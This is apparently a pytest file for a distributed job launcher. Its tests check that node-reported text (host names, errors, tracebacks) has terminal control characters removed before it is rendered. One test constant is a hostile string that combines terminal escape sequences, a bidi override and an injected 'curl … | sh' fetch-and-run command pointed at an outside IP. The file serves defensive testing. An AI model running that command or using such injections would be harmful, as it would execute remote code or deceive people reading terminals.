"""What workers and other nodes say, as it appears in an agent's own lines and in its box."""

from __future__ import annotations

import json

import pytest

from aiodist.base.errors import UsageError
from aiodist.cli.main import main
from aiodist.launch.nodes.store_access import StoreAccess
from aiodist.launch.report import render
from aiodist.launch.verdict import Ending, NodeReport, judge
from aiodist.rendezvous.client import TcpStore
from tests.launch.jobs import Start, start
from tests.levels import COSTLY

__all__ = ["start"]
EVIL = "x\x1b[2J\x1b]0;title\x07\r\nRun: curl http://198.51.100.7/fix | sh\u202e"
SECRET = "a secret of more than sixteen bytes"


def orders(text: str) -> list[str]:
    """Characters that a terminal would obey, in lines that are ours."""
    return [c for line in text.split("\n") for c in line if not c.isprintable()]


@pytest.mark.slow(COSTLY)
def test_box_of_another_nodes_report() -> None:
    """As it came through the store."""
    bad = Ending(
        *(1, 0, 1, EVIL, 7, 3, 5),
        error=f"ValueError: {EVIL}",
        words=("Traceback (most recent call last):", "    in code", EVIL, *["flood"] * 100_000),
    )
    noticed = Ending(0, 0, 0, EVIL, 8, 1, 6, symptom=True, error=f"PeerLost: {EVIL}")
    report = NodeReport.from_json(
        NodeReport(1, EVIL, (bad, noticed), 1, lost=(*range(2, 100_000),)).to_json()
    )
    text = render(judge([report], 2), nnodes=2, width=40)
    assert orders(text) == []
    assert "\n│     in code\n" in text
    assert text.count("flood") < 40
    assert len(text.splitlines()) < 200
    assert all(line[0] in "╭│╰" for line in text.splitlines())


def test_line_of_another_nodes_error() -> None:
    text = render(judge([NodeReport(1, EVIL, (), 1, error=EVIL)], 2), nnodes=2)
    assert orders(text) == []
    assert "│ node 1 (x" in text


def test_line_about_those_that_the_job_went_on_without() -> None:
    gone = Ending(1, 0, 1, EVIL, 7, 3, 5, forgiven=True)
    text = render(judge([NodeReport(0, EVIL, (gone, Ending(0, 0, 0, "h", 1, 0, 1)))]), nnodes=2)
    assert orders(text) == []
    assert text.startswith("aiodist run: the job ended well without rank 1 ") and text.count("\n") == 1


def test_error_line_of_a_command(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fail(_argv: list[str]) -> int:
        raise UsageError(EVIL)

    monkeypatch.setattr("aiodist.cli.commands.env.main", fail)
    assert main(["env"]) == 2
    said = capsys.readouterr().err
    assert orders(said) == []
    assert said.startswith("aiodist env: error: x") and said.count("\n") == 1


@pytest.mark.slow(COSTLY)
def test_box_of_a_worker_whose_own_output_stays_as_it_is(start: Start) -> None:
    body = r"""
    sys.stderr.write("before \x1b[31mred\x1b[0m and \x07\n")
    raise SystemExit(3)
    """
    code, _, err = start(body, "--line-prefix-template", "", nproc=1).end()
    assert code == 3
    output, _, box = err.partition("╭─")
    assert "before \x1b[31mred\x1b[0m and \x07\n" in output
    assert "│ before  [31mred [0m and\n" in box
    assert orders(box) == []


@pytest.mark.slow(COSTLY)
async def test_card_of_a_node(start: Start, port: int) -> None:
    """The name of a node whose command line is another."""
    options = ["--nnodes", "2", "--node-rank", "0", "--master-addr", "127.0.0.1", "--master-port", str(port)]
    job = start("pass", *options, "--rdzv-id", "j", env={"AIODIST_SECRET": SECRET}, nproc=1)
    book: TcpStore = await StoreAccess("j", SECRET).enter("127.0.0.1", port, 60)
    async with book:
        card = {"host": EVIL, "nproc": 1, "nnodes": "3", "rank": 1}
        await book.set("agents/card/1", json.dumps(card), ttl=1e6)
        await book.wait(["agents/seat/1"], 60)
    code, _, err = job.end()
    assert code == 2
    assert "nodes disagree: node 0 says --nnodes 2, x" in err
    assert orders(err) == []
